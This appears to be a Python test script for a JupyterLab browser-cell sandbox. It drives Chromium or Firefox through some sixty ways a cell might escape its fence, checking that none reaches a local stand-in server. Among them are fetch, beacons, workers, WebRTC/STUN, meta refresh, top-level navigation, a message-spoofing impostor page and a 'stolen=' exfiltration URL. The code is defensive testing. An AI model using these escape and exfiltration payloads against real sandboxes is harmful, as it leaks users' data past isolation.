r"""Ways out of a `%%browser` cell to a server that belongs to no lab. No request may arrive.

    python tests/attacks/cell_exfil.py chromium|firefox [part of a way's name]

In a real JupyterLab in a real browser. Exits 1 where a request or a UDP packet arrived, a foreign
page or an impostor wrote under the cell, or the notebook's page was left. (A TCP connection on
which nothing is sent is allowed: browsers open one before they ask whether they may navigate.)

Each way is also tried in a plain frame without a fence. Where it leads nowhere there either, this
is said: that the fence held then proves nothing, for this browser.
"""

from __future__ import annotations

import argparse
import contextlib
import html
import json
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

from playwright.sync_api import Browser, Error, Page, Playwright, sync_playwright

TREE = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(TREE), str(TREE / "tools")]
from real_lab import launch_chromium, launch_firefox, running_lab  # noqa: E402

from wslab.installed import CHROMIUM, FIREFOX, find  # noqa: E402

LOOPBACK = {"media.peerconnection.ice.loopback": True}
"""Of Firefox: WebRTC may talk to this machine, as it may to any other."""

SPEAKS = (
    "for (const w of [parent, parent.parent, top]) { const c = new MessageChannel(); "
    "w.postMessage('wslab: hello', '*', [c.port2]); "
    "c.port1.postMessage({ said: [['line', 'log', 'FOREIGN']] }); "
    "w.postMessage({ wslab: [['line', 'log', 'FOREIGN']] }, '*') }"
)
"""Script of a page that tries to write under the cell."""

WAIT = 1.2  # seconds for a way to show whether it leads out


class Strange(BaseHTTPRequestHandler):
    """A server of somebody else."""

    arrived: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.arrived.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        with contextlib.suppress(ConnectionError):  # it only asked
            self.wfile.write(f"<script>{SPEAKS}</script>".encode())

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Plain(BaseHTTPRequestHandler):
    """A page that holds what is tried in a frame, without a fence."""

    page: ClassVar[bytes] = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        if self.path == "/":
            self.wfile.write(self.page)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def ways(web: str, stun: str) -> dict[str, str]:
    """What a cell tries, by name; `web` is the strange server, `stun` an address for UDP."""
    port = web.rpartition(":")[2]

    def element(tag: str, **attributes: str) -> str:
        sets = "".join(f"e[{name!r}] = {value!r};" for name, value in attributes.items())
        return f"let e = document.createElement({tag!r}); {sets} document.body.append(e);"

    def link(**attributes: str) -> str:
        return element("link", **attributes)

    def document(script: str) -> str:
        return json.dumps(f"<script>{script}</script>").replace("</", "<\\/")

    def within(script: str) -> str:
        return f"let e = document.createElement('iframe'); e.srcdoc = {document(script)};"

    webrtc = (
        f"let p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{stun}' }}] }}); "
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"
    )
    frame = f'<iframe srcdoc="<script>{webrtc}</script>"></iframe>'
    append = "document.body.append(e);"
    in_shadow = "let d = document.createElement('div'); document.body.append(d);"
    page = f"new Blob([{document(f'fetch({web!r});' + SPEAKS)}], {{ type: 'text/html' }})"
    return {
        "fetch": f"fetch('{web}/fetch').catch(() => 0)",
        "XMLHttpRequest": f"let x = new XMLHttpRequest(); x.open('GET', '{web}/xhr'); x.send()",
        "EventSource": f"new EventSource('{web}/events')",
        "beacon": f"navigator.sendBeacon('{web}/beacon', 'x')",
        "import": f"import('{web}/import').catch(() => 0)",
        "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{web}/worker')`])))",
        "shared worker": "new SharedWorker(URL.createObjectURL(new Blob(["
        f"`fetch('{web}/shared')`])))",
        "worklet": "(CSS.paintWorklet ?? new AudioContext().audioWorklet)"
        f".addModule('{web}/worklet')",
        "img": f"new Image().src = '{web}/img'",
        "video": element("video", src=f"{web}/video", poster=f"{web}/poster"),
        "object": element("object", data=f"{web}/object"),
        "embed": element("embed", src=f"{web}/embed"),
        "iframe": element("iframe", src=f"{web}/iframe"),
        "css": element("style", textContent=f"@import url({web}/css); b {{ color: red }}"),
        "css background": f"document.body.style.background = 'url({web}/background)'",
        "stylesheet": link(rel="stylesheet", href=f"{web}/sheet"),
        "prefetch": link(rel="prefetch", href=f"{web}/prefetch"),
        "preload": link(rel="preload", href=f"{web}/preload") + "e.as = 'script'",
        "modulepreload": link(rel="modulepreload", href=f"{web}/modulepreload"),
        "icon": link(rel="icon", href=f"{web}/icon"),
        "manifest": link(rel="manifest", href=f"{web}/manifest"),
        "speculation": "let e = document.createElement('script'); e.type = 'speculationrules'; "
        f"e.textContent = JSON.stringify({{ prefetch: [{{ urls: ['{web}/speculation'] }}] }}); "
        + append,
        "svg": f"document.body.innerHTML = `<svg><image href={web}/image /><use href={web}/u#x>`",
        "base": f"<base href='{web}/base/'><img src=x><link rel=stylesheet href=y>",
        "form": element("form", action=f"{web}/form") + "e.submit()",
        "ping": element("a", href="#", ping=f"{web}/ping") + "e.click()",
        "download": element("a", href=f"{web}/download", download="x") + "e.click()",
        "popup": f"open('{web}/popup')",
        "top": f"top.location = '{web}/top'",
        "parent": f"parent.location = '{web}/parent'",
        "parent by name": f"open('{web}/parent', '_parent'); open('{web}/top', '_top')",
        "ws to another port": f"new WebSocket('ws://127.0.0.1:{port}/ws')",
        "ws to localhost": f"new WebSocket('ws://localhost:{port}/ws')",
        "ws to 0": f"new WebSocket('ws://0:{port}/ws')",
        "ws as another user": f"new WebSocket('ws://x:y@127.0.0.1:{port}/ws')",
        "webtransport": f"new WebTransport('https://{stun}/').ready.catch(() => 0)",
        "webrtc": webrtc,
        "webrtc in a frame": within(webrtc) + append,
        "webrtc in a fresh frame": "let e = document.createElement('iframe'); "
        f"{append} let RTCPeerConnection = e.contentWindow.RTCPeerConnection; {webrtc}",
        "webrtc in a frame by its number": "document.body.innerHTML = '<iframe></iframe>'; "
        f"let RTCPeerConnection = window[0].RTCPeerConnection; {webrtc}",
        "webrtc in a shadow": f"{in_shadow} {within(webrtc)}"
        "d.attachShadow({ mode: 'closed' }).append(e)",
        "webrtc in html": f"<p>x</p>{frame}",
        "webrtc in html's shadow": f"<div><template shadowrootmode=open>{frame}</template></div>",
        "fetch in a frame": within(f"fetch('{web}/within')") + append,
        "a frame that navigates": within(f"location = '{web}/within'") + append,
        "a frame that navigates the cell": within(f"parent.location = '{web}/within'") + append,
        "meta refresh": "let e = document.createElement('meta'); e.httpEquiv = 'refresh'; "
        f"e.content = '0;url={web}/refresh'; document.head.append(e)",
        "meta refresh in html": f"<meta http-equiv=refresh content='0;url={web}/refresh'>",
        "navigate itself": f"location.href = '{web}/navigate?stolen=' + encodeURIComponent(url)",
        "navigate later": f"setTimeout(() => location.replace('{web}/later'), 500)",
        "navigate by a link": element("a", href=f"{web}/link") + "e.click()",
        "navigate by name": f"open('{web}/self', '_self')",
        "navigate by navigation": f"navigation.navigate('{web}/navigation')",
        "navigate unheard": f"document.open(); setTimeout(() => location = '{web}/open', 300)",
        "to a blob": f"location = URL.createObjectURL({page})",
        "to data": f"location = 'data:text/html,' + encodeURIComponent({document(SPEAKS)})",
        "to javascript": f"location = `javascript:'<img src={web}/javascript>'`",
        "again and again": "location.reload()",
        "impostor": SPEAKS,
    }


@contextlib.contextmanager
def serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    """Serve with it on loopback; gives the address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@contextlib.contextmanager
def ways_to(web: str) -> Iterator[tuple[dict[str, str], socket.socket]]:
    """The ways, and a new socket for those of UDP: QUIC goes on repeating to an older one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield ways(web, f"127.0.0.1:{udp.getsockname()[1]}"), udp


def arrived(udp: socket.socket) -> list[str]:
    """What has reached the strange server since the last call."""
    found = [f"request for {path}" for path in Strange.arrived]
    Strange.arrived.clear()
    with contextlib.suppress(BlockingIOError):
        while udp.recv(2000):
            found = [*found, "UDP"][:4]
    return found


def heard(page: Page) -> int:
    """How many messages the plain page has got."""
    try:
        return int(page.evaluate("window.heard ?? 0"))
    except Error:  # it is being loaded, or left
        return 0


def start(browser_name: str, playwright: Playwright) -> Browser:
    """Start that browser; the caller closes it."""
    if browser_name == "firefox":
        return launch_firefox(playwright, str(find(FIREFOX)), LOOPBACK)
    return launch_chromium(playwright, str(find(CHROMIUM)))


def leads_out(browser: Browser, plain: str, web: str, name: str) -> bool:
    """Whether that way leads out of a frame without a fence."""
    with ways_to(web) as (tried, udp):
        code = tried[name]
        body = code if code.startswith("<") else f"<script>{{{code}}}</script>"
        body = f"<body><script>url = 'ws://127.0.0.1:1/'</script>{body}"
        Plain.page = (
            "<script>heard = 0; onmessage = () => { heard++ }</script>"
            f'<iframe srcdoc="{html.escape(body)}"></iframe>'
        ).encode()
        page = browser.new_page()
        page.goto(plain, wait_until="commit")
        deadline = time.monotonic() + WAIT
        found = False
        while not found and time.monotonic() < deadline:
            time.sleep(0.05)
            found = bool(arrived(udp) or heard(page))
        page.close()
    return found


def main(browser_name: str, wanted: str) -> int:
    out = 0
    with (
        serving(Strange) as web,
        serving(Plain) as plain,
        ways_to(web) as (everything, udp),
        tempfile.TemporaryDirectory() as folder,
        sync_playwright() as playwright,
        start(browser_name, playwright) as browser,
        running_lab(Path(folder)) as lab,
    ):
        tried = {name: code for name, code in everything.items() if wanted in name}
        real = {name for name in tried if leads_out(browser, plain, web, name)}
        opens = "from wslab.labs import first_connection\nlab = first_connection.open()"
        lab.write_notebook("ways.ipynb", opens, *(f"%%browser\n{code}" for code in tried.values()))
        notebook = lab.open(browser, "ways.ipynb")
        notebook.run_cell(0)
        for number, name in enumerate(tried):
            notebook.run_cell(number + 1)
            time.sleep(WAIT)
            found = arrived(udp)
            if "FOREIGN" in notebook.view("browser-cell").nth(number).inner_text():
                found.append("strange words under the cell")
            if not notebook.page.url.startswith(lab.url):
                found.append(f"the page went to {notebook.page.url}")
            out += bool(found)
            told = found or ([] if name in real else ["leads nowhere without the fence either"])
            print(f"{'OUT ' if found else 'held'}  {name}  {', '.join(told)}".rstrip(), flush=True)
        notebook.close()
    print(f"{browser_name}: {len(tried)} ways, {len(real)} of them real, {out} led out")
    return int(out > 0)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("browser", choices=["chromium", "firefox"])
    parser.add_argument("wanted", nargs="?", default="", help="part of a way's name")
    options = parser.parse_args()
    sys.exit(main(options.browser, options.wanted))
